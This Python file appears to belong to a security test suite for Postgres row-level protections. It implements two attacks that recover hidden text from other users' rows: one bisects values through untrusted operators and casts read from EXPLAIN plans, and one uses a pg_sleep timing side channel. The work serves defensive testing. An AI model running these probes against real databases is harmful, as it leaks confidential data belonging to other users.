"""Operators and functions that Postgres does not trust, in conditions on rows of others."""

import re
from collections.abc import Awaitable, Callable
from itertools import product
from time import monotonic

import asyncpg

from tests.attacks.attack import Depth, Found, a_few, of_several
from tests.attacks.bisection import Form, Oracle, by_comparison, hidden_texts, shown_values
from tests.attacks.explaining import by_explain, plain, what_ran
from tests.attacks.looking import of_each_kind, of_others, quoted, readable
from tests.attacks.target import Target

_LEAST_PATIENCE, _MOST_PATIENCE = 0.025, 0.5
"""Seconds that a look may take before it is called late: more than one that reaches no row."""

_LOOKS = 5
_TEXTS = 2  # of each column and each way to ask


def _by_like(column: str, prefix: str, first: str, last: str) -> str:
    begun = re.sub(r"([\\%_])", r"\\\1", prefix)
    letter = f"ascii(substr({column}, {len(prefix) + 1}))"
    return (
        f"{column} like {quoted(begun + '%')}"
        f" and {letter} >= {ord(first)} and {letter} <= {ord(last)}"
    )


def _by_pattern(column: str, prefix: str, first: str, last: str) -> str:
    letters = f"[\\u{ord(first):04x}-\\u{ord(last):04x}]"
    begun = "".join(f"\\u{ord(letter):04x}" for letter in prefix)
    return f"{column} ~ '^{begun}{letters}'"


def _by_joining(column: str, prefix: str, first: str, last: str) -> str:
    return by_comparison(f"({column} || '')", prefix, first, last)


def _by_cast(column: str, prefix: str, first: str, last: str) -> str:
    return by_comparison(f"{column}::varchar::name::text", prefix, first, last)


_FORMS: dict[str, Form] = {
    "like": _by_like,
    "~": _by_pattern,
    "||": _by_joining,
    "::": _by_cast,
}


async def operators_and_casts(target: Target, depth: Depth) -> Found:
    """Knows nothing but names: asks with `like`, `~`, `||` and casts, and looks what the plan did.

    Where a view is no barrier they run before its own condition, being cheaper.
    """
    found: set[str] = set()
    few = a_few(depth, _TEXTS)
    async with target.attacker() as db:
        await plain(db)
        for relation in of_each_kind(await readable(db), depth.ways):
            for column, where in product(
                relation.texts, of_others(relation, target.own)[: depth.ways]
            ):
                shown = await shown_values(db, relation, column, where)
                oracle = by_explain(db, relation.name, where, what_ran)
                for form in list(_FORMS.values())[: depth.ways]:
                    texts = hidden_texts(
                        oracle, column, shown, few, form, counted=target.secrets.texts
                    )
                    found |= {text async for text in texts}
    return of_several(found & target.secrets.texts, len(target.secrets.texts))


async def naps(target: Target, depth: Depth) -> Found:
    """Needs no EXPLAIN: a row of others on which `pg_sleep` is reached makes the answer late.

    A letter takes a fifth of a second, so that one text is enough.
    """
    one = a_few(depth, 1)
    found: set[str] = set()
    async with target.attacker() as db:
        await plain(db)
        for relation in of_each_kind(await readable(db), depth.ways):
            for column, where in product(relation.texts, of_others(relation, target.own)):
                if found & target.secrets.texts:
                    break
                shown = await shown_values(db, relation, column, where)
                oracle = await _by_clock(db, relation.name, where)
                texts = hidden_texts(oracle, column, shown, one, counted=target.secrets.texts)
                found |= {text async for text in texts}
                await db.execute("reset statement_timeout")
    return of_several(found & target.secrets.texts, len(target.secrets.texts))


async def _by_clock(db: asyncpg.Connection, relation: str, where: str) -> Oracle:
    async def look(condition: str) -> None:
        # A second for each row that is reached, and no patience for a first one.
        nap = f"pg_sleep(case when {condition} then 1 else 0 end) is null"
        await db.fetch(f"select 1 from {relation} where {where} and {nap}")

    async def late(condition: str) -> bool:
        try:
            await look(condition)
        except asyncpg.QueryCanceledError:
            return True
        return False

    async def oracle(condition: str, nobody: str) -> bool:
        # A view may be slow by itself, and a busy machine late without a reason.
        return await late(condition) and not await late(nobody) and await late(condition)

    # How long a look takes is another thing on each machine, and at each hour.
    usual = [await _seconds(look, "false") for _ in range(_LOOKS)]
    patience = min(max(_LEAST_PATIENCE, 3 * max(usual)), _MOST_PATIENCE)
    await db.execute(f"set statement_timeout = '{patience * 1000:.0f}ms'")
    return oracle


async def _seconds(look: Callable[[str], Awaitable[None]], condition: str) -> float:
    begun = monotonic()
    await look(condition)
    return monotonic() - begun
